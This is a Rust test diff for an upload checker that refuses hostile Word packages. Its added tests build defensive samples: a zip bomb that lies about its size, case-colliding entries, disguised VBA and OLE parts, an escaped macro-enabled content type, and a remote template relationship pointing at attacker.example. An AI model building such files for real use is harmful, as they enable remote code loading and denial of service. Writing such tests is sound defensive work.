@@ -261,3 +261,92 @@ fn reasons_never_echo_the_files_bytes() {
         assert!(!refusal.reason().contains("script"), "{}", refusal.reason());
     }
 }
+
+fn docx_types(types: &str, extra: &[(&str, &[u8], CompressionMethod)]) -> Vec<u8> {
+    let mut entries: Vec<(&str, &[u8], CompressionMethod)> = vec![
+        ("[Content_Types].xml", types.as_bytes(), CompressionMethod::Deflated),
+        ("word/document.xml", b"<w:document/>", CompressionMethod::Deflated),
+    ];
+    entries.extend_from_slice(extra);
+    package(&entries)
+}
+
+/// Sets the uncompressed size of every header (local and central) of the entry `name` to 0:
+/// what a bomb declares while it unpacks to more.
+fn declare_empty(zip: &mut [u8], name: &str) {
+    let name = name.as_bytes();
+    let mut at = 0;
+    while at + 46 <= zip.len() {
+        let signature: [u8; 4] = zip[at..at + 4].try_into().unwrap();
+        if signature == [0x50, 0x4b, 0x03, 0x04] && zip[at + 30..].starts_with(name) {
+            zip[at + 22..at + 26].fill(0);
+        }
+        if signature == [0x50, 0x4b, 0x01, 0x02] && zip[at + 46..].starts_with(name) {
+            zip[at + 24..at + 28].fill(0);
+        }
+        at += 1;
+    }
+}
+
+#[test]
+fn packages_whose_entries_lie_or_hide_are_refused() {
+    // Names equal but for case: Quire would read one, Office the other.
+    let twice = docx_with(&[("[content_types].xml", b"<Types/>", CompressionMethod::Stored)]);
+    assert!(check("sop.docx", &twice).unwrap_err().reason().contains("one name"));
+    // An entry declaring it is empty while it unpacks to 4 MiB.
+    let zeros = vec![0u8; 4 * 1024 * 1024];
+    let mut lying = docx_with(&[("word/media/pad.bin", &zeros, CompressionMethod::Deflated)]);
+    declare_empty(&mut lying, "word/media/pad.bin");
+    assert_eq!(code(check("sop.docx", &lying)), "package");
+    // The same entry, honest and within the ratio, passes.
+    let text = "A line of an honest appendix.\n".repeat(1000);
+    let honest = docx_with(&[("word/appendix.xml", text.as_bytes(), CompressionMethod::Deflated)]);
+    assert_eq!(code(check("sop.docx", &honest)), "accepted");
+}
+
+#[test]
+fn active_content_and_outside_references_are_refused_however_spelt() {
+    let with_override = |extra: &str| content_types(DOCX_MAIN).replace("</Types>", &format!("{extra}</Types>"));
+    // A VBA project under another name, declared by its content type.
+    let vba = with_override(r#"<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>"#);
+    let refused = check(
+        "sop.docx",
+        &docx_types(&vba, &[("word/x.dat", b"\xD0\xCF", CompressionMethod::Stored)]),
+    );
+    assert!(refused.unwrap_err().reason().contains("active content"));
+    // Macro-enabled spelt with a character reference, and the main part named only in a comment.
+    let escaped = content_types("application/vnd.ms-word.document.macro&#69;nabled.main+xml");
+    assert!(check("sop.docx", &docx_types(&escaped, &[]))
+        .unwrap_err()
+        .reason()
+        .contains("character reference"));
+    let commented = format!("<!-- {} -->", content_types(DOCX_MAIN));
+    assert!(check("sop.docx", &docx_types(&commented, &[])).is_err());
+    let ole = with_override(
+        r#"<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>"#,
+    );
+    assert!(check("sop.docx", &docx_types(&ole, &[]))
+        .unwrap_err()
+        .reason()
+        .contains("active content"));
+    // A template fetched from outside when the file opens; a hyperlink is only shown.
+    let rels = |kind: &str| {
+        format!(
+            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>"#
+        )
+    };
+    let template = rels("attachedTemplate");
+    let remote = docx_with(&[(
+        "word/_rels/settings.xml.rels",
+        template.as_bytes(),
+        CompressionMethod::Deflated,
+    )]);
+    assert!(check("sop.docx", &remote).unwrap_err().reason().contains("outside"));
+    let link = rels("hyperlink");
+    let linked = docx_with(&[(
+        "word/_rels/document.xml.rels",
+        link.as_bytes(),
+        CompressionMethod::Deflated,
+    )]);
+    assert_eq!(code(check("sop.docx", &linked)), "accepted");
+}
